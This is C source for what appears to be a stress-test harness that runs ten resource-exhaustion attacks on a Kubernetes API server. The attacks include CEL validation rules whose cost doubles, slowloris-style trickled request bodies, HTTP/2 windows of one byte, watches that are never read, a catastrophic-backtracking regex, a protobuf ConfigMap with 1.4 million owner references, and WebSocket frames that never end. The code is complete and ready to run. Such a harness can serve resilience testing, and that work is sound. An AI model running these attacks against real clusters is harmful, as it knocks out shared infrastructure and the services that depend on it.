#include "attack.h"

#include <poll.h>
#include <stdio.h>

#include "../net/harness.h"
#include "base/buf.h"
#include "base/idiom.h"

#define DEFINITIONS "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
#define MAPS        "/api/v1/namespaces/default/configmaps"

static bool goes_on(const struct attack_run *run)
{
    return !atomic_load(&run->is_over);
}

static void repeat(struct buf *out, const char *text, size_t times)
{
    for (size_t i = 0; i < times; i++)
        buf_str_add(out, str_of(text));
}

static void pause_ms(int ms)
{
    (void)poll(NULL, 0, ms);
}

int attack_ask(struct attack_run *run, const char *method, const char *path, const char *type,
               struct str body, int64_t timeout_ms)
{
    struct arena a;
    arena_init(&a);
    const struct http_header headers[] = { { STR("Content-Type"), str_of(type) },
                                           { STR("Accept"), STR("application/json") } };
    const struct fetch_request req = {
        .method = str_of(method),
        .url = arena_printf(&a, STR_FMT "%s", STR_ARG(run->target->url), path),
        .headers = headers,
        .n_headers = body.n ? 2 : 1,
        .body = body,
        .timeout_ms = timeout_ms,
        .max_reply = 64u << 20,
    };
    struct fetch_reply reply = { 0 };
    struct err err = ERR_INIT(&a);
    int r = fetch(run->fetcher, &req, &a, &reply, &err);
    arena_done(&a);
    return r < 0 ? 0 : reply.status;
}

/* ---- Custom kinds ---- */

/* A definition with that schema, and whatever else its version has. */
static bool define(struct attack_run *run, const char *plural, struct str schema, struct str more)
{
    autobuf body = { 0 };
    buf_printf(&body,
               "{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"CustomResourceDefinition\","
               "\"metadata\":{\"name\":\"%s.abuse.example.com\"},\"spec\":{\"group\":"
               "\"abuse.example.com\",\"scope\":\"Namespaced\",\"names\":{\"plural\":\"%s\","
               "\"kind\":\"K%s\"},\"versions\":[{\"name\":\"v1\",\"served\":true,\"storage\":true,"
               "\"schema\":{\"openAPIV3Schema\":",
               plural, plural, plural);
    buf_str_add(&body, schema);
    buf_str_add(&body, STR("}"));
    buf_str_add(&body, more);
    buf_str_add(&body, STR("}]}}"));
    int status = attack_ask(run, "POST", DEFINITIONS, "application/json", buf_str(&body), 60000);
    if (status != 201)
        fprintf(stderr, "definition of %s: %d\n", plural, status);
    return status == 201;
}

/* An object of that kind, whose spec is the text; the status. */
static int make(struct attack_run *run, const char *plural, const char *name, struct str spec,
                int64_t timeout_ms)
{
    autobuf body = { 0 }, path = { 0 };
    buf_printf(&path, "/apis/abuse.example.com/v1/namespaces/default/%s%c", plural, '\0');
    buf_printf(&body,
               "{\"apiVersion\":\"abuse.example.com/v1\",\"kind\":\"K%s\",\"metadata\":{\"%s\":"
               "\"%s\"},\"spec\":",
               plural, *name ? "name" : "generateName", *name ? name : "x-");
    buf_str_add(&body, spec);
    buf_byte(&body, '}');
    return attack_ask(run, "POST", path.p, "application/json", buf_str(&body), timeout_ms);
}

/* ---- Expressions that double ---- */

static const struct {
    const char *plural, *start, *step;
    int steps;
    const char *end;
} doublings[] = {
    { "sums", "[[1]]", ".map(x,x+x)", 27, ".size() >= 0" },
    { "pairs", "[[1]", ".map(x,[x,x])", 30, "].all(y, y == y)" },
    { "texts", "['ab']", ".map(x,x+x)", 27, ".size() >= 0" },
    { "flats", "[[1,1]]", ".map(x,[x,x])", 26, ".flatten(40).size() >= 0" },
};
enum { N_DOUBLINGS = ARRAY_LEN(doublings) };

static bool prepare_expressions(struct attack_run *run)
{
    for (size_t i = 0; i < N_DOUBLINGS; i++) {
        autobuf schema = { 0 };
        buf_str_add(&schema,
                    STR("{\"type\":\"object\",\"properties\":{\"spec\":{\"type\":\"object\","
                        "\"properties\":{\"text\":{\"type\":\"string\",\"maxLength\":10}},"
                        "\"x-kubernetes-validations\":[{\"rule\":\""));
        buf_str_add(&schema, str_of(doublings[i].start));
        repeat(&schema, doublings[i].step, (size_t)doublings[i].steps);
        buf_str_add(&schema, str_of(doublings[i].end));
        buf_str_add(&schema, STR("\"}]}}}"));
        (void)define(run, doublings[i].plural, buf_str(&schema), STR(""));
    }
    return true; /* a rule that is refused by its estimated cost does no harm */
}

static void send_expressions(struct attack_run *run)
{
    for (size_t i = 0; goes_on(run); i++) {
        (void)make(run, doublings[i % N_DOUBLINGS].plural, "", STR("{\"text\":\"a\"}"), 20000);
        atomic_fetch_add(&run->n_done, 1);
    }
}

/* ---- Bodies of people who are not known ---- */

static void trickle_bodies(struct attack_run *run)
{
    enum { WIRES = 20, PIECE = 16 << 10 };
    static const char head[] = "POST " MAPS " HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                               "application/json\r\nContent-Length: 3000000\r\n\r\n";
    struct wire *wires[WIRES] = { 0 };
    autobuf piece = { 0 };
    repeat(&piece, " ", PIECE);
    while (goes_on(run)) {
        for (size_t i = 0; i < WIRES && goes_on(run); i++) {
            if (wires[i] && wire_send(wires[i], buf_str(&piece)) && wire_drain(wires[i]))
                continue;
            wire_close(wires[i]);
            wires[i] = wire_open(run->target, "http/1.1", false);
            if (wires[i] && wire_send(wires[i], str_of(head)))
                atomic_fetch_add(&run->n_done, 1);
        }
        pause_ms(20);
    }
    for (size_t i = 0; i < WIRES; i++)
        wire_close(wires[i]);
}

/* ---- Tables ---- */

static bool prepare_tables(struct attack_run *run)
{
    enum { COLUMNS = 1000, ITEMS = 200000 };
    autobuf columns = { 0 }, spec = { 0 };
    buf_str_add(&columns, STR(",\"additionalPrinterColumns\":["));
    for (int i = 0; i < COLUMNS; i++)
        buf_printf(&columns, "%s{\"name\":\"c%d\",\"type\":\"string\",\"jsonPath\":\"..zz\"}",
                   i ? "," : "", i);
    buf_byte(&columns, ']');
    buf_str_add(&spec, STR("{\"a\":["));
    repeat(&spec, "{\"a\":1},", ITEMS);
    buf_str_add(&spec, STR("1]}"));
    return define(run, "wides",
                  STR("{\"type\":\"object\",\"x-kubernetes-preserve-unknown-fields\":true}"),
                  buf_str(&columns)) &&
           make(run, "wides", "big", buf_str(&spec), 60000) == 201;
}

static void ask_tables(struct attack_run *run)
{
    struct arena a;
    arena_init(&a);
    const struct http_header headers[] = {
        { STR("Accept"), STR("application/json;as=Table;g=meta.k8s.io;v=v1") }
    };
    while (goes_on(run)) {
        const struct fetch_request req = {
            .method = STR("GET"),
            .url = arena_printf(&a, STR_FMT "/apis/abuse.example.com/v1/namespaces/default/wides%s",
                                STR_ARG(run->target->url),
                                atomic_load(&run->n_done) % 2 ? "/big" : ""),
            .headers = headers,
            .n_headers = 1,
            .timeout_ms = 20000,
            .max_reply = 64u << 20,
        };
        struct fetch_reply reply;
        (void)fetch(run->fetcher, &req, &a, &reply, NULL);
        atomic_fetch_add(&run->n_done, 1);
        arena_reset(&a);
    }
    arena_done(&a);
}

/* ---- Readers that do not read ---- */

static bool prepare_large(struct attack_run *run)
{
    autobuf body = { 0 };
    for (int i = 0; i < 2; i++) {
        buf_reset(&body);
        buf_printf(&body, "{\"metadata\":{\"name\":\"%s\"},\"data\":{\"k\":\"",
                   i ? "large" : "some");
        repeat(&body, "0123456789", i ? 100000 : 20000);
        buf_str_add(&body, STR("\"}}"));
        int status = attack_ask(run, "POST", MAPS, "application/json", buf_str(&body), 60000);
        if (status != 201 && status != 409)
            return false;
    }
    return true;
}

/* A connection with streams that ask for `path`, as many as there may be. */
static struct wire *open_streams(struct attack_run *run, const char *path, uint32_t window)
{
    enum { STREAMS = 100, INITIAL_WINDOW = 4 };
    struct wire *w = wire_open(run->target, "h2", true);
    autobuf out = { 0 };
    if (!w)
        return NULL;
    buf_str_add(&out, H2_PREFACE);
    h2_add_setting(&out, INITIAL_WINDOW, window);
    for (uint32_t i = 0; i < STREAMS; i++)
        h2_add_request(&out, 2 * i + 1, "GET", path, true);
    if (!wire_send(w, buf_str(&out)))
        return wire_close(w);
    atomic_fetch_add(&run->n_done, STREAMS);
    return w;
}

/* A byte now and then, so that nothing ever stands still for long. */
static void drip(struct attack_run *run)
{
    struct wire *w = NULL;
    while (goes_on(run)) {
        autobuf out = { 0 };
        if (!w)
            w = open_streams(run, MAPS "/large?pretty=true", 1);
        for (uint32_t i = 0; i < 100; i++)
            h2_add_u32(&out, H2_WINDOW_UPDATE, 2 * i + 1, 1);
        if (w && (!wire_send(w, buf_str(&out)) || !wire_drain(w)))
            w = wire_close(w);
        pause_ms(500);
    }
    wire_close(w);
}

/* Watches that nobody reads, of an object that changes. */
static void ignore_watches(struct attack_run *run)
{
    enum { WIRES = 8 };
    struct wire *wires[WIRES] = { 0 };
    for (uint32_t i = 0; goes_on(run); i++) {
        autobuf body = { 0 };
        buf_printf(&body, "{\"metadata\":{\"labels\":{\"n\":\"%u\"}}}", i);
        for (size_t k = 0; k < WIRES; k++)
            if (!wires[k])
                wires[k] =
                    open_streams(run, MAPS "?watch=true&fieldSelector=metadata.name%3Dsome", 65535);
        (void)attack_ask(run, "PATCH", MAPS "/some", "application/merge-patch+json", buf_str(&body),
                         20000);
        pause_ms(100);
    }
    for (size_t k = 0; k < WIRES; k++)
        wire_close(wires[k]);
}

static void ignore_backups(struct attack_run *run)
{
    enum { WIRES = 25 };
    static const char head[] = "GET /sampan/v1/backup HTTP/1.1\r\nHost: localhost\r\n\r\n";
    struct wire *wires[WIRES] = { 0 };
    while (goes_on(run)) {
        for (size_t i = 0; i < WIRES && goes_on(run); i++) {
            if (wires[i])
                continue;
            wires[i] = wire_open(run->target, "http/1.1", true);
            if (wires[i] && wire_send(wires[i], str_of(head)))
                atomic_fetch_add(&run->n_done, 1);
        }
        pause_ms(100);
    }
    for (size_t i = 0; i < WIRES; i++)
        wire_close(wires[i]);
}

/* ---- Patterns that are hard to match, and clients that do not wait ---- */

static bool prepare_patterns(struct attack_run *run)
{
    return define(run, "hards",
                  STR("{\"type\":\"object\",\"properties\":{\"spec\":{\"type\":\"object\","
                      "\"properties\":{\"text\":{\"type\":\"string\",\"pattern\":"
                      "\"^(([a-z]{1,10}){1,10}x?){1,10}!$\"}}}}}"),
                  STR(""));
}

static void send_and_leave(struct attack_run *run)
{
    enum { LENGTH = 100000 };
    autobuf body = { 0 }, whole = { 0 };
    buf_str_add(&body,
                STR("{\"apiVersion\":\"abuse.example.com/v1\",\"kind\":\"Khards\",\"metadata\":{"
                    "\"generateName\":\"x-\"},\"spec\":{\"text\":\""));
    repeat(&body, "abcdefghij", LENGTH / 10);
    buf_str_add(&body, STR("\"}}"));
    buf_printf(&whole,
               "POST /apis/abuse.example.com/v1/namespaces/default/hards HTTP/1.1\r\nHost: "
               "localhost\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n",
               body.n);
    buf_str_add(&whole, buf_str(&body));
    while (goes_on(run)) {
        struct wire *w = wire_open(run->target, "http/1.1", true);
        if (w && wire_send(w, buf_str(&whole)))
            atomic_fetch_add(&run->n_done, 1);
        pause_ms(100);
        wire_close(w);
    }
}

/* ---- Small bodies that become large trees ---- */

static void add_varint(struct buf *out, size_t n)
{
    for (; n >= 0x80; n >>= 7)
        buf_byte(out, (char)(n | 0x80));
    buf_byte(out, (char)n);
}

/* A ConfigMap with more than a million owners that say nothing, two bytes each. */
static void add_owners(struct buf *out)
{
    enum { OWNERS = 1400000 };
    autobuf meta = { 0 };
    buf_str_add(&meta, STR("\x0a\x01m"));
    for (int i = 0; i < OWNERS; i++)
        buf_str_add(&meta, (struct str){ "\x6a\0", 2 });
    autobuf raw = { 0 };
    buf_byte(&raw, 0x0a);
    add_varint(&raw, meta.n);
    buf_str_add(&raw, buf_str(&meta));
    buf_str_add(out, (struct str){ "k8s\0", 4 });
    buf_str_add(out, STR("\x0a\x0f\x0a\x02v1\x12\x09"
                         "ConfigMap\x12"));
    add_varint(out, raw.n);
    buf_str_add(out, buf_str(&raw));
}

static void send_owners(struct attack_run *run)
{
    autobuf body = { 0 };
    add_owners(&body);
    while (goes_on(run)) {
        (void)attack_ask(run, "POST", MAPS, "application/vnd.kubernetes.protobuf", buf_str(&body),
                         20000);
        atomic_fetch_add(&run->n_done, 1);
    }
}

static void send_empty_items(struct attack_run *run)
{
    autobuf body = { 0 };
    buf_str_add(&body,
                STR("{\"apiVersion\":\"v1\",\"kind\":\"ConfigMap\",\"metadata\":{\"name\":\"m\","
                    "\"ownerReferences\":["));
    repeat(&body, "{},", 950000);
    buf_str_add(&body, STR("{}]}}"));
    while (goes_on(run)) {
        (void)attack_ask(run, "POST", MAPS, "application/json", buf_str(&body), 20000);
        atomic_fetch_add(&run->n_done, 1);
    }
}

/* WebSocket frames that never end. */
static void begin_frames(struct attack_run *run)
{
    enum { WIRES = 10, PIECE = 64 << 10 };
    static const char head[] =
        "GET " MAPS "?watch=true HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n";
    /* A masked binary frame of 31 MB. */
    static const char frame[] = "\x82\xff\0\0\0\0\x01\xf0\0\0\1\2\3\4";
    struct wire *wires[WIRES] = { 0 };
    autobuf piece = { 0 };
    repeat(&piece, "x", PIECE);
    while (goes_on(run)) {
        for (size_t i = 0; i < WIRES && goes_on(run); i++) {
            if (wires[i] && wire_send(wires[i], buf_str(&piece)) && wire_drain(wires[i]))
                continue;
            wire_close(wires[i]);
            wires[i] = wire_open(run->target, "http/1.1", true);
            if (wires[i] && wire_send(wires[i], str_of(head)) &&
                wire_send(wires[i], (struct str){ frame, sizeof(frame) - 1 }))
                atomic_fetch_add(&run->n_done, 1);
        }
        pause_ms(5);
    }
    for (size_t i = 0; i < WIRES; i++)
        wire_close(wires[i]);
}

const struct attack attacks[] = {
    { "expressions that double", 8, prepare_expressions, send_expressions },
    { "bodies of strangers, drop by drop", 4, NULL, trickle_bodies },
    { "a thousand columns", 20, prepare_tables, ask_tables },
    { "windows of one byte", 4, prepare_large, drip },
    { "watches that nobody reads", 4, prepare_large, ignore_watches },
    { "backups that nobody reads", 8, prepare_large, ignore_backups },
    { "hard patterns, clients gone", 8, prepare_patterns, send_and_leave },
    { "owners that say nothing", 12, NULL, send_owners },
    { "items that say nothing", 12, NULL, send_empty_items },
    { "frames that never end", 2, NULL, begin_frames },
};
const size_t n_attacks = ARRAY_LEN(attacks);
